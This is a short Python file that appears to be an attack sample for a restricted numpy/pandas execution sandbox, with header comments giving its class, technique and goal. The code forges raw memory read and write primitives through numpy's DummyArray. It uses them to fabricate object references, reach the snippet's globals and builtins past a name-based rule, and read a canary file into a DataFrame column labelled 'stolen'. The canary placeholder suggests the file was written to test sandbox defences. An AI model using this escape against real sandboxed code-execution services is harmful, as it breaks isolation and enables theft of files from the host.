# class: module_reach
# technique: func_globals (offset 16) of a snippet function is the snippet's globals dict; its 'np' entry is numpy as a value (the module_value rule sees only names) (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: read
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

namespace = object_at(peek(id(view) + 16))
npv = namespace["np"]
df = pd.DataFrame({"stolen": [npv.fromfile("{{CANARY_FILE}}", dtype=npv.uint8).tobytes().decode("latin-1")]})
